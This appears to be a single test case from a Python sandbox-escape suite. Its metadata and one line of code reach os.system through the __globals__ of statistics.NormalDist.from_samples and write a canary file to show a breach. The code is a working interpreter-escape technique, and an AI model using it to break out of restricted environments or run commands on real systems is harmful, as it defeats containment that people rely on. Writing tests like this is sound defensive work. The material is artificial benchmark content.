# id: 581
# name: statistics_and_fractions
# category: interpreter
# technique: attributes of numbers that lead to modules
# breach: file
# looks_like: CANARY_FILE is created
# baseline: inproc
import statistics
statistics.NormalDist.from_samples.__func__.__globals__['sys'].modules['os'].system('echo breach > ' + CANARY_FILE)
